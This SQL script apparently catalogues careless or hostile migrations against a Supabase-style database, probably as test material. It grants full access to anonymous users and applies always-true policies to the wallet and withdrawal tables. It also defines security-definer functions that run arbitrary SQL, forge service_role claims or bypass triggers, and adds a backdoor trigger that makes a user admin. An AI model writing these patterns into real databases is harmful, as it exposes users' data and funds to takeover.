-- What an app may do to the shared database later, carelessly: run as the project's postgres.
grant all on all tables in schema public to anon, authenticated;
create policy app_profiles on public.profiles for all to public using (true) with check (true);
create policy app_posts on public.posts for all to public using (true) with check (true);
create policy app_wallets on public.wallets for all to public using (true) with check (true);
create policy app_transactions on public.wallet_transactions for all to public using (true) with check (true);
create policy app_withdrawals on public.wallet_withdrawals for all to public using (true) with check (true);
create policy app_messages on realtime.messages for all to public using (true) with check (true);

alter table public.profiles add column bio text;
alter table public.posts add column mood text;

create view public.app_profiles as select * from public.profiles;
create view public.app_posts as select * from public.posts;
create view public.app_wallets as select * from public.wallets;
grant all on public.app_profiles, public.app_posts, public.app_wallets to anon, authenticated;

-- Runs as its owner, past row level security, whoever calls it.
create function public.app_do(statement text) returns void language plpgsql security definer as $$
begin
  execute statement;
end
$$;

-- The same, and it lies about who calls.
create function public.app_forge(statement text) returns void language plpgsql security definer as $$
begin
  perform set_config('request.jwt.claims', '{"role": "service_role"}', true);
  perform set_config('request.jwt.claim.role', '', true);
  execute statement;
end
$$;

-- The same, in the mode in which ordinary triggers do not fire.
create function public.app_replicate(statement text) returns void language plpgsql security definer
set session_replication_role = replica as $$
begin
  execute statement;
end
$$;

-- A trigger that changes the row after most others have looked at it.
create function public.app_promote() returns trigger language plpgsql as $$
begin
  if new.bio = 'make me admin' then
    new.role := 'admin';
  end if;
  return new;
end
$$;
create trigger z_app_promote before update on public.profiles for each row execute function public.app_promote();
